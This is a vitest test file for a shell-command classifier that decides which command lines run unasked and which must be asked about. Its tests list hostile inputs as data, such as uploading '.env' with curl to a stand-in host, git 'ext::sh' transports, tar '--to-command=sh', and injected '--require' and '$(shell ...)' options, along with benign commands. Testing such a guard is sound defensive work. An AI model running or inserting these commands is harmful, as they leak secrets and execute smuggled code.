import { describe, expect, it } from "vitest";
import { compileForm, kindsIn, listed } from "../compiled-form.ts";
import { readByEntry } from "../read-by-entry.ts";
import { type ShellWord, shellWords } from "../shell-word.ts";
import { parseBash } from "../syntax/parse-bash.ts";
import { allProgramEntries, programEntry } from "./index.ts";
import type { ProgramForm } from "./program-entry.ts";

function formsOf(form: ProgramForm): readonly ProgramForm[] {
  return [form, ...Object.values(form.subcommands ?? {}).flatMap(formsOf)];
}

function factsOf(line: string) {
  const command = parseBash(line).statements[0]?.command;
  if (command?.kind !== "simple") throw new Error(`${line} is no simple command`);
  const [program, ...args] = command.words.flatMap(({ parts }) => shellWords(parts)) as unknown as readonly [ShellWord, ...ShellWord[]];
  const entry = programEntry(program.text);
  if (entry === undefined) throw new Error(`${program.text} is in no table`);
  return readByEntry(entry, args);
}

const texts = (words: readonly ShellWord[]): readonly string[] => words.map(({ text }) => text);

describe("the tables of programs", () => {
  it("name each program once", () => {
    const names = allProgramEntries().flatMap((entry) => listed(entry.names));
    expect(names.filter((name, index) => names.indexOf(name) !== index)).toEqual([]);
  });

  it("list each option of a form once, and only options that are forbidden or needed if they are listed", () => {
    for (const entry of allProgramEntries())
      for (const form of formsOf(entry)) {
        const spellings = [
          ...listed(form.flags),
          ...[form.values, form.optional].flatMap((kinds) => Object.values(kinds ?? {}).flatMap((list) => listed(list))),
          ...Object.values(form.pairs ?? {}).flatMap((list) => listed(list)),
        ];
        expect(spellings.filter((spelling, index) => spellings.indexOf(spelling) !== index)).toEqual([]);
        const named = [form.asks, form.needs, form.given, form.here?.with, form.recurses === true ? "" : form.recurses].flatMap(listed);
        expect(named.filter((spelling) => !spellings.includes(spelling))).toEqual([]);
      }
  });

  it("know of each kind of an operand, and name no option of one letter with two dashes", () => {
    for (const entry of allProgramEntries())
      for (const form of formsOf(entry)) {
        for (const kinds of [form.operands, form.rest, ...Object.values(form.operandsWith ?? {})])
          if (kinds !== undefined) expect(kindsIn(kinds).filter(({ kind }) => !/^[a-z]+$/.test(kind))).toEqual([]);
        expect([...compileForm(form).flags].filter((spelling) => /^--.$/.test(spelling))).toEqual([]);
      }
  });
});

describe("a form that writes", () => {
  // A patch, an archive, a server, a configuration or a script names what these overwrite.
  const OPEN = `tar, gtar, bsdtar, unzip, zip, gzip, gunzip, bzip2, bunzip2, xz, unxz, zstd, curl, wget, patch, split, strace, flock, git submodule update`;
  const BUILDERS = /^(?:npm|npx|pnpm|yarn|bun|go|gofmt|cargo|cmake|javac|dotnet|mvn|gradle|tsc|eslint|prettier|pip|uv|pytest|ruff|black)/;
  const WRITING: ReadonlySet<string> = new Set(["write", "into", "link", "symlink", "ref"]);

  it("says what it deletes or overwrites if its program makes, moves and deletes files or is git", () => {
    const writes = ({ operands = "", operandsWith = {}, here, values, keys }: ProgramForm): boolean =>
      here?.kind === "write" ||
      [operands, ...Object.values(operandsWith)].some((kinds) => kindsIn(kinds).some(({ kind }) => WRITING.has(kind))) ||
      [values, keys].some((kinds) => Object.keys(kinds ?? {}).some((kind) => WRITING.has(kind)));
    const openIn = (form: ProgramForm, name: string): readonly string[] => [
      ...(writes(form) && form.destroys === undefined && form.destroysWith === undefined ? [name] : []),
      ...Object.entries(form.subcommands ?? {}).flatMap(([names, sub]) => openIn(sub, `${name} ${listed(names)[0]}`)),
    ];
    const entries = allProgramEntries().filter(({ names }) => !BUILDERS.test(names));
    const open = entries.flatMap((entry) => listed(entry.names).flatMap((name) => openIn(entry, name)));
    expect(open.filter((name) => !OPEN.split(", ").includes(name))).toEqual([]);
  });

  it("names its destructive options as they are spelled in its lists", () => {
    for (const entry of allProgramEntries())
      for (const form of formsOf(entry)) {
        const { flags, values, optional } = compileForm(form);
        const named = [...Object.keys(form.destroysWith ?? {}), typeof form.deletes === "string" ? form.deletes : ""].flatMap(listed);
        expect(named.filter((spelling) => !flags.has(spelling) && !values.has(spelling) && !optional.has(spelling))).toEqual([]);
      }
  });
});

describe("a line that the tables understand", () => {
  it.each([
    "git log -p",
    "git log -p HEAD --",
    "git stash list -p",
    "git stash show -p",
    "git reflog -p",
    "git show HEAD",
    "git diff main",
    "git cat-file -p 8baef1b4",
    "git grep x main",
  ])("has %s read any file of its folder", (line) => {
    expect(factsOf(line)).toMatchObject({ here: "read" });
  });

  it.each([
    ["cat -n a.txt b.txt", ["a.txt", "b.txt"]],
    ["tail -n +20 CHANGELOG.md", ["CHANGELOG.md"]],
    ["sort -t: -k2 -rn names", ["names"]],
    ["uniq -c words", ["words"]],
    ["diff -u src/old.ts src/new.ts", ["src/old.ts", "src/new.ts"]],
    ["column -t -s, data/prices.csv", ["data/prices.csv"]],
    ["grep -rnE 'import .*' src test", ["src", "test"]],
    ["rg -n --no-heading 'export function' -g '*.ts' src", ["src"]],
    ["rg --files src", ["src"]],
    ["jq -r '.dependencies | keys[]' package.json", ["package.json"]],
    ["jq --arg name x --slurpfile more b.json '.a' a.json", ["b.json", "a.json"]],
    ["sed -n '1,120p' src/server.ts", ["src/server.ts"]],
    ["awk -F: '{ print $1 }' report.txt", ["report.txt"]],
    ["tar -tzf package.tgz", ["package.tgz"]],
    ["tar tf package.tar src", ["package.tar"]],
    ["unzip -l dist/bundle.zip", ["dist/bundle.zip"]],
    ["git show HEAD~1:src/index.ts", ["src/index.ts"]],
    ["git show :0:.env", [".env"]],
    ["git show 'HEAD@{2 days ago 10:00}:.env'", ["00}:.env", ".env"]],
    ["git log -p main -- src", ["src", "main"]],
    ["git diff --no-index a b", ["a", "b"]],
  ])("has %s run unasked and names what it reads", (line, reads) => {
    const facts = factsOf(line);
    expect(facts).toMatchObject({ unlisted: [], readOnly: true });
    expect(texts(facts.reads)).toEqual(reads);
  });

  it.each(
    `ls -la src; stat -c '%s %y' a; du -sh dist; df -h .; file a.png; realpath a; which -a node; find . -name '*.ts' -not -path './x/*'
    find src -type f -size +500k; date -u +%F; date -r a.txt; ps aux; ps -ef; ps -p 123; uname -a; hostname; seq 1 3; cut -d, -f1,3 a.csv
    git status -sb; git log --oneline -20; git log -p -2 -- src/a.ts; git log --author=ada --since='1 week ago' --pretty=format:'%h %an'
    git diff --stat HEAD~3; git diff main...HEAD -- src/; git blame -L 30,60 src/a.ts; git branch -vv; git branch; git branch -a --merged
    git branch --list 'fix/*'; git remote -v; git remote get-url origin; git stash list; git stash show -p; git tag --list 'v1.*'; git tag
    git rev-parse --abbrev-ref HEAD; git ls-files src; git shortlog -sn; git config --get remote.origin.url; git grep -n legacyMode
    git -C packages/core log -3; git --no-pager diff --word-diff HEAD; git reflog; git worktree list; git describe --tags --always
    node --version; git --version; make --version; java -version; python3 --version; pip list; tree -L 2 -I node_modules; fd -e ts parser src
    lsof -i :3000; ss -ltn; free -h; head -c 100 a; wc -l a b; tr a-z A-Z; base64 -d; xxd a; od -c a; strings -n 8 a; sha256sum a; nl -ba a`
      .split(/[;\n]/)
      .map((line) => line.trim()),
  )("has %s run unasked", (line) => {
    expect(factsOf(line)).toMatchObject({ unlisted: [], readOnly: true });
  });

  it.each(
    `npm test; npm run build; npm test -- --run test/a.test.ts; npm ci; npm install --save-dev @types/node; npm ls; npx tsc --noEmit
    pnpm test; yarn add -D vitest; go test ./... -run TestX; go version; cargo test --workspace; cargo build --release; make -j8 test
    python3 -m pytest -x; pytest -q tests; pip install requests==2.0; uv sync; node --test test/a.test.js; node scripts/generate.mjs
    git add -A; git commit -m 'a b'; git checkout -b fix; git push -u origin fix; git pull --rebase; git branch new; git tag v1
    git branch -D old; git stash; git stash pop; git merge --no-ff fix; git rebase main; git reset --hard HEAD~1; git clone https://a.test/x
    rm -rf dist; mkdir -p src/a; mv a b; cp -r a b; touch x; chmod +x a.sh; tee out; sed -i s/a/b/ a.txt; tar -xzf a.tgz; tar -czf a.tgz src
    find . -name '*.log' -delete; sort -o a a; uniq a b; docker ps; gh pr view 42 --json title; curl -s https://a.test/`
      .split(/[;\n]/)
      .map((line) => line.trim()),
  )("has the words of %s covered by a wildcard, and asks without a rule", (line) => {
    expect(factsOf(line)).toMatchObject({ unlisted: [], readOnly: false });
  });

  it.each([
    ["make version", []],
    ["npm ls", []],
    ["yarn --version", ["--version"]],
    ["cargo --version", ["--version"]],
    ["mvn --version", ["--version"]],
    ["pnpm --version", []],
    ["date -f .env", ["-f", ".env"]],
    ["date -s tomorrow", ["-s", "tomorrow"]],
    ["date 01010101", ["01010101"]],
    ["date --fi=.env", ["--fi=.env"]],
    ["ps axeww", ["axeww"]],
    ["ps e", ["e"]],
    ["ps -e -u axw", ["-e", "-u", "axw"]],
    ["sort --files0-from=.env", ["--files0-from=.env"]],
    ["sort --compress-program=./x a", ["--compress-program=./x"]],
    ["wc --files0-from=.env", ["--files0-from=.env"]],
    ["md5sum -c .env", ["-c"]],
    ["hexdump -f .env a", ["-f"]],
    ["file -f .env", ["-f"]],
    ["file -m .env a", ["-m"]],
    ["strings @.env", ["@.env"]],
    ["grep --fil=.env x a", ["--fil=.env"]],
    ["rg --pre ./x foo", ["--pre"]],
    ["jq -f .env a", ["-f"]],
    ["jq env", ["env"]],
    ["sed 'w out' a", ["w out"]],
    ["sed -f x a", ["-f"]],
    ["awk 'BEGIN{system(\"x\")}'", ['BEGIN{system("x")}']],
    ["find . -files0-from x", ["-files0-from"]],
    ["tar -tf a.tar --to-command=sh", ["--to-command=sh"]],
    ["tar -tf host:a.tar", ["host:a.tar"]],
    ["tar -tf a.tar -T .env", ["-T"]],
    ["tree -o out", ["-o"]],
    ["hostname -F .env", ["-F"]],
    ["git diff --ext-diff", ["--ext-diff"]],
    ["git diff --ext", ["--ext"]],
    ["git log --output=x", ["--output=x"]],
    ["git log -U --ext-diff", ["--ext-diff"]],
    ["git log --format=%G?", ["--format=%G?"]],
    ["git log --show-signature", ["--show-signature"]],
    ["git grep -O./x foo", ["-O./x"]],
    ["git -c core.pager=x log", ["-c", "core.pager=x", "log"]],
    ["git --git-dir=x log", ["--git-dir=x"]],
    ["git reflog expire --all", ["expire"]],
    ["git config core.pager x", ["core.pager", "x"]],
    ["git config --get github.token", ["github.token"]],
    ["git clone --templ=t https://a.test/x", ["--templ=t"]],
    ["git clone -c a=b https://a.test/x", ["-c"]],
    ["git fetch --upload-pack=./x", ["--upload-pack=./x"]],
    ["git fetch 'ext::sh -c x'", ["ext::sh -c x"]],
    ["git rebase -x ./x main", ["-x"]],
    ["git rebase --exec=./x main", ["--exec=./x"]],
    ["git bisect run ./x", ["run", "./x"]],
    ["git submodule foreach ./x", ["foreach", "./x"]],
    ["git stash -- list", []],
    ["git push https://a.test/x main", ["https://a.test/x"]],
    ["git push ../x main", ["../x"]],
    ["git pull user@a.test:x", ["user@a.test:x"]],
    ["pip install -r https://a.test/r.txt", ["https://a.test/r.txt"]],
    ["python3 -W ignore::os.x a.py", ["-W"]],
    ["rsync -a a host:b", ["host:b"]],
    ["rsync -a host:a b", ["host:a"]],
    ["cp a host:b", ["host:b"]],
    ["cmake --build build -- CC=./x", ["CC=./x"]],
    ["npm test -w ../x", ["../x"]],
    ["cargo test --target ./x.json", ["./x.json"]],
    ["git alias-of-mine", ["alias-of-mine"]],
    ["npm test --script-s evil", ["--script-s"]],
    ["npm test --userc=x", ["--userc=x"]],
    ["npm test --node-opt=--require=./e.js", ["--node-opt=--require=./e.js"]],
    ["npm test -- --import=./e.mjs", ["--import=./e.mjs"]],
    ["npm install git+https://a.test/x", ["git+https://a.test/x"]],
    ["npm install ./x", ["./x"]],
    ["make test -E '$(shell evil)'", ["-E", "$(shell evil)"]],
    ["make test CC=./x", ["CC=./x"]],
    ["make -f x", ["-f"]],
    ["node --test --import=./e.mjs", ["--import=./e.mjs"]],
    ["node --test --test-reporter=./e.mjs", ["--test-reporter=./e.mjs"]],
    ["node -e x", ["-e"]],
    ["python3 -c x", ["-c"]],
    ["pytest -p evil", ["-p"]],
    ["pip install -e ./x", ["-e", "./x"]],
    ["go test -exec ./x ./...", ["-exec"]],
    ["go build -toolexec=./x", ["-toolexec=./x"]],
    ["cargo test --config ./x", ["--config"]],
    ["java @args", ["@args"]],
    ["mvn exec:exec", ["exec:exec"]],
    ["curl -K x", ["-K"]],
    ["curl -T .env https://a.test/", ["-T"]],
    ["rsync -e ./x a b", ["-e"]],
    ["patch --get=1", ["--get=1"]],
  ])("has %s asked about", (line, unlisted) => {
    const facts = factsOf(line);
    expect(facts.readOnly).toBe(false);
    expect(facts.unlisted).toEqual(expect.arrayContaining([...unlisted]));
  });
});
